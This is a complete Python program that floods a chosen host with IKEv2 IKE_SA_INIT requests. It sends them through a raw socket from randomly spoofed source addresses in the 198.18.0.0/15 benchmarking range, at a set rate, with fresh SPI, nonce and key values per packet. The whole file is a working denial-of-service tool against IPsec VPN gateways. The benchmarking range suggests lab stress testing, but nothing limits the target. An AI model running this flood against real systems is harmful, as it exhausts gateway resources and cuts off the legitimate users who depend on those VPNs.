"""A flood of IKE_SA_INIT requests from invented addresses: `flood SECONDS RATE DESTINATION`.

The addresses are in 198.18.0.0/15 (RFC 2544).

Each request proposes AES-256-GCM and X25519, as the real peers do, and has its own SPI, nonce and
public value. The program prints the number of sent requests.
"""

import os
import random
import socket
import struct
import sys
import time

KEY_EXCHANGE, NONCE, SA = 34, 40, 33


def payload(following: int, body: bytes) -> bytes:
    """Return an IKEv2 payload (RFC 7296, 3.2)."""
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def transform(last: bool, kind: int, number: int, key_bits: int = 0) -> bytes:
    """Return a transform (3.3.2); key_bits is the key length attribute."""
    attribute = struct.pack("!HH", 0x800E, key_bits) if key_bits else b""
    head = struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attribute), kind, 0, number)
    return head + attribute


def request() -> bytes:
    transforms = transform(False, 1, 20, 256) + transform(False, 2, 6) + transform(True, 4, 31)
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    exchange = struct.pack("!HH", 31, 0) + os.urandom(32)
    body = payload(KEY_EXCHANGE, proposal) + payload(NONCE, exchange) + payload(0, os.urandom(32))
    head = os.urandom(8) + bytes(8) + struct.pack("!BBBBII", SA, 0x20, 34, 0x08, 0, 28 + len(body))
    return head + body


def packet(source: bytes, destination: bytes) -> bytes:
    """Return an IPv4 packet; the kernel fills in length and checksum."""
    data = request()
    udp = struct.pack("!HHHH", 500, 500, 8 + len(data), 0) + data
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0, source, destination) + udp


def flood(seconds: float, rate: int, destination: str) -> int:
    """Send `rate` requests per second for `seconds`; return their number."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target = socket.inet_aton(destination)
    sent, started = 0, time.monotonic()
    while (passed := time.monotonic() - started) < seconds:
        while sent < passed * rate:
            source = struct.pack("!I", 0xC6120000 + random.getrandbits(17))
            raw.sendto(packet(source, target), (destination, 0))
            sent += 1
        time.sleep(0.002)
    return sent


if __name__ == "__main__":
    print(flood(float(sys.argv[1]), int(sys.argv[2]), sys.argv[3]))
